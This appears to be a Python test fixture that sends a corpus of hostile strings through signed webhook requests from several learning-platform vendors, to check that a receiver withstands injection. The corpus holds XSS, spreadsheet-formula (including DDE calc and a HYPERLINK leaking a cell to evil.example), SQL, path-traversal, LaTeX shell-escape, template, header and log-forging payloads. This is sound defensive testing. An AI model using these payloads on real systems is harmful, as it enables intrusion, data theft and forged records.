"""Strings that try to be something else than text, and a way to have each vendor say them."""

import json
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime
from typing import NamedTuple

from tests import playing

CORPUS: dict[str, str] = {
    "markdown link": "[click](https://evil.example/a)",
    "markdown image": "![x](https://evil.example/pixel.png)",
    "markdown table": "| a | b |\n|---|---|",
    "autolink": "<https://evil.example/auto>",
    "bare link": "https://evil.example/bare",
    "mail link": "mailto:evil@evil.example?subject=x",
    "javascript link": "[x](javascript:window.__hacked=1)",
    "data link": "[x](data:text/html,<script>window.__hacked=1</script>)",
    "bold": "**bold** _it_ ~~gone~~ `code` # head",
    "script": "<script>window.__hacked=1;alert(1)</script>",
    "script end": "</script><script>window.__hacked=1</script>",
    "image with a handler": "<img src=x onerror=window.__hacked=1>",
    "image from elsewhere": '<img src="https://evil.example/i.png">',
    "svg": "<svg onload=window.__hacked=1><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "frame": "<iframe srcdoc='<script>parent.__hacked=1</script>'></iframe>",
    "style": "<style>@import 'https://evil.example/s.css';body{display:none}</style>",
    "attribute": '" autofocus onfocus=window.__hacked=1 x="',
    "attribute with apostrophes": "' onmouseover='window.__hacked=1",
    "comment": "<!-- --><b>b</b>",
    "entity": "&lt;b&gt;&#60;script&#62;window.__hacked=1&#60;/script&#62;",
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a space": " =1+1",
    "full-width formula": "\uff1d1+1",
    "cells": 'a,b;c"d"\t\'e',
    "lines": "one\ntwo\r\nthree\u2028four\u2029five\x0bsix",
    "log line": 'x"}\n{"event":"delivery","outcome":"forged"}',
    "ANSI": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "C1 control": "\x9b31m",
    "bell and backspace": "a\x07\x08\x08b\x7f",
    "right to left": "safe\u202egpj.exe",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe",
    "no character": "a\u0000b",
    "no unicode": "\ufffe\uffff\U0010ffff",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302" * 20,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 10,
    "long word": "W" * 3000,
    "many words": "word " * 600,
    "nothing": " ",
    "vega": "datum.x",
    "vega expression": "datum['x'] + toString(1) + signal",
    "vega path": "a.b[0]['c']\\.d:Q",
    "template": "{{7*7}}${7*7}#{7*7}<%=7*7%>",
    "format": "{0.__class__} %s %n %(x)s {",
    "math": "$\\frac{1}{0}$ $$\\href{https://evil.example/m}{x}$$",
    "LaTeX": "\\input{/etc/passwd}\\write18{id}",
    "icon": ":material/delete: :shield: :streamlit:",
    "colour": ":red[x] :blue-background[y] :small[z] :rainbow[r] :violet-badge[b]",
    "shortcut": ":red-badge[:material/error: failed]",
    "prometheus": 'x",outcome="accepted"} 1\nforged_total{a="b"} 9',
    "SQL": "'; DROP TABLE event; --",
    "SQL with quotes": '" OR ""="',
    "wildcards": "%_\\%*?[a-z]",
    "path": "../../etc/passwd\\..\\..",
    "query": "?a=b&delivery=1#x%00%0d%0aSet-Cookie:%20a=b",
    "true": "true",
    "null": "null",
    "number": "1e309",
    "not a number": "NaN",
    "proto": "__proto__",
    "constructor": "constructor",
}


class Post(NamedTuple):
    """A request to the receiver, as a vendor or a stranger would send it."""

    body: bytes
    headers: Mapping[str, bytes]


def mindtickle(name: str, text: str) -> Iterator[Post]:
    """A learner of MindTickle whose every field is hostile, and a refused delivery."""
    for who in (f"hostile-{name}", text[:255]):
        ours = {"userId": who, "moduleId": text[:255], "quizId": text[:255], "courseId": text[:255],
                "certName": text[:255], "moduleName": text, "quizName": text, "courseName": text,
                "email": text, "role": text, "teamId": text, "reason": text}  # fmt: skip
        figures = {
            "progressPct": 40,
            "timeSpentSec": 60,
            "score": 1,
            "maxScore": 10,
            "passed": False,
        }
        for event_type in ("user.provisioned", "module.progress", "quiz.submitted",
                           "course.completed", "certification.expired"):  # fmt: skip
            yield _signed(event_type, ours | figures, playing.new_id())
    yield _signed(text, {"userId": text}, playing.new_id())
    yield _signed("module.progress", {text: text}, f"{name} {text}")
    yield _signed(text, {"userId": text}, f"{text} {name}", secret="another")
    yield Post(text.encode(), {"x-mt-event-id": _header(text), "user-agent": _header(text)})


def _signed(event_type: str, data: object, event_id: str, secret: str = playing.SECRET) -> Post:
    body = json.dumps({"event": event_type, "companyId": playing.COMPANY, "data": data}).encode()
    headers = playing.signed(body, datetime.now(UTC), secret=secret)
    encoded = {key: value.encode() for key, value in headers.items()}
    return Post(body, encoded | {"x-mt-event-id": _header(event_id)})


def _header(text: str) -> bytes:
    """What HTTP lets through of it."""
    return bytes(byte for byte in text.encode()[:500] if byte >= 0x20 and byte != 0x7F).strip()


def innovative_educators(name: str, text: str) -> Iterator[Post]:
    """A completion whose every field is hostile, and one of a known learner."""
    for who in (f"hostile-{name}", text[:255]):
        yield Post(
            playing.course(
                id=playing.new_id(), user=text, title=text, notifiableId=text[:255],
                companyId=text, userDetail__id=who, userDetail__firstName=text,
                userDetail__lastName=text,
            ),
            {},
        )  # fmt: skip
    yield Post(playing.course(id=text[:255], event=text, source=text), {})


def lessonly(name: str, text: str) -> Iterator[Post]:
    """A failed lesson whose every field is hostile, its report card too; and a wrong value."""
    let_in = {"authorization": playing.AUTHORIZATION.encode()}
    for who in (f"hostile-{name}", text[:255]):
        body = playing.lesson(
            user__id=who, user__name=text, user__email=text, user__custom_fields={text: text},
            lesson__id=text[:255], lesson__title=text, report_card_url=text, score_percent=10,
        )  # fmt: skip
        yield Post(body, let_in)
    yield Post(playing.lesson(lesson__title=text), {"authorization": _header(f"x {text}")})


def standard_webhooks(name: str, text: str) -> Iterator[Post]:
    """An event of a hostile type, and one under a hostile id."""
    body = json.dumps({"type": text[:255], "data": {text: text}}).encode()
    headers = playing.standard(body, datetime.now(UTC))
    yield Post(body, {key: value.encode() for key, value in headers.items()})
    yield Post(body, {"webhook-id": _header(f"{name} {text}"), "webhook-timestamp": b"1",
                      "webhook-signature": _header(f"v1,{text}")})  # fmt: skip


SENDERS: Mapping[str, Callable[[str, str], Iterator[Post]]] = {
    "mindtickle": mindtickle,
    "innovative-educators": innovative_educators,
    "lessonly": lessonly,
    "standard-webhooks": standard_webhooks,
}
"""How each vendor says a string; a vendor of the receiver that is missing here fails a test."""

HOSTILE = "<img src=x onerror=alert(1)> **bold** [link](javascript:alert(1)) =1+1"
"""Short, for every field of a learner at once."""
